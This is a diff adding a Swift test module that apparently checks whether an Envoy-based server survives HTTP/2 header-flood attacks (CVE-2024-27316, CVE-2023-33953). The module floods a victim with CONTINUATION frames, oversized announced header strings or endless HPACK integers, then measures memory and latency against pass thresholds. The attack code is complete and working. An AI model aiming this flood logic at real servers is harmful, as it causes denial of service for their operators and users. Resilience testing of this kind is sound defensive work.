@@ -1,0 +1,71 @@
+import EnvoyAPI
+import NIOCore
+
+/// Begins a header block that never ends (CVE-2024-27316, CVE-2023-33953).
+struct HeaderFlood: Attack {
+    /// What the block is made of.
+    enum Kind: String, CaseIterable {
+        case continuation
+        case headerString = "header-string"
+        case padding = "hpack-padding"
+    }
+
+    var kind: Kind
+
+    var name: String { kind.rawValue }
+    var summary: String {
+        switch kind {
+        case .continuation: "300 MB of CONTINUATION frames with header fields, in a block that never ends"
+        case .headerString: "one header string that is said to be 1 GB long, sent on in small frames"
+        case .padding: "an HPACK integer that goes on and on, in small frames"
+        }
+    }
+    let bar = "RSS < 150 MB, honest p99 < 1 s"
+
+    private static let totalBytes = 300_000_000
+
+    func play(on stage: AttackStage) async throws -> [Figure] {
+        try await stage.withVictim(name, VictimConfiguration()) { victim in
+            // The time that 300 MB may take at most; the others go on for as long as this is.
+            let duration = stage.scale.duration(10, short: 3)
+            let target = try RawTarget(victim)
+            let sent = Shared(0)
+            let connections = Shared(0)
+            let exposure = try await Exposure.measure(victim) {
+                connections.add(await PersistentAttack(target: target).run(for: duration) { try await flood($0, sent) })
+            }
+            return exposure.figures(Exposure.Bars(memory: 150, newClient: 2)) + [
+                Figure("sent", Double(sent.value) / 1_000_000, "MB"),
+                Figure("connections", Double(connections.value), ""),
+            ]
+        }
+    }
+
+    private func flood(_ connection: RawConnection, _ sent: Shared<Int>) async throws {
+        var block = HeaderBlock(callOf: Method.deltaEndpoints.path, isTLS: false)
+        let payload: [UInt8]
+        switch kind {
+        case .continuation:
+            var fields = HeaderBlock()
+            while fields.bytes.count < HTTP2Frame.longestPayload - 200 {
+                fields.append("x-flood", String(repeating: "a", count: 120))
+            }
+            payload = fields.bytes
+        case .headerString:
+            block.append("x-flood", announcing: 1_000_000_000)
+            payload = [UInt8](repeating: 0x61, count: 1_024)
+        case .padding:
+            block.append(endlessLengthOf: "x-flood")
+            payload = [UInt8](repeating: 0x80, count: 1_024)
+        }
+        var first = ByteBuffer()
+        first.writeFrame(.headers, stream: 1, block.bytes)
+        try await connection.write(first)
+        var batch = ByteBuffer()
+        while batch.readableBytes < 64_000 { batch.writeFrame(.continuation, stream: 1, payload) }
+        while !Task.isCancelled, kind != .continuation || sent.value < Self.totalBytes {
+            try await connection.write(batch)
+            sent.add(batch.readableBytes)
+        }
+    }
+}
